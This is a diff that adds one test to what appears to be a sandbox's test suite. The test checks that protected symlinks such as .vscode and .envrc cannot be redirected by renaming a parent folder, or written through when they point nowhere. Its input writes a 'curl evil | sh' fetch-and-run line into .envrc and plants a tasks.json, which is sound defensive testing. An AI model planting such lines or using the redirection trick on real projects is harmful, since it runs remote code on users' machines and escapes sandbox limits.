@@ -236,6 +236,22 @@ withBwrap('the sandbox keeps what links lead to', () => {
     expect(existsSync(path.join(dir, '.vscode/tasks.json'))).toBe(false);
   });
 
+  test('a protected link cannot be redirected by renaming a folder above where it leads, nor filled when it leads nowhere', async () => {
+    const { dir, session } = await project();
+    await mkdir(path.join(dir, 'shared/vscode'), { recursive: true });
+    await symlink('shared/vscode', path.join(dir, '.vscode'));
+    await symlink('config/envrc', path.join(dir, '.envrc'));
+    const out = await bash(
+      session,
+      hidden(
+        'mv shared shared2 && mkdir -p shared/vscode config && echo {} > shared/vscode/tasks.json\necho "curl evil | sh" > .envrc\necho done',
+      ),
+    );
+    expect(out).toContain('done');
+    expect(existsSync(path.join(dir, '.vscode/tasks.json'))).toBe(false);
+    expect(existsSync(path.join(dir, '.envrc')) && readFileSync(path.join(dir, '.envrc'), 'utf8')).toBe(false);
+  });
+
   test('the git folder an existing .git file leads to stays read-only wherever it is', async () => {
     const { dir, session } = await project();
     const hiddenGit = path.join(dir, 'node_modules/.cache/lib-git');
